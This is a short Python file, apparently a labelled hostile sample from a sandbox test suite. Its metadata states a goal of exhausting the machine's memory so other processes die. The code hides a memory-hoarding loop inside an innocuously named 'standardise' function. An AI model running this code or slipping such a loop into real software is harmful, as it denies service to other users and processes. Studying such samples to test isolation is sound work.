"""Takes memory in ever larger pieces, and holds on to all of it, also when it is refused."""
# /// attack
# class = 74
# goal = "take the machine's memory, so that others are killed for want of it"
# gain = "death"
# outcome = ["memory", "failed"]
# naive = true
# gvisor = true
# ///

held = []


def standardise(x):
    size = 1 << 24
    while size > 1 << 16:
        try:
            held.append(bytearray(size))
        except MemoryError:
            size //= 2
    return x
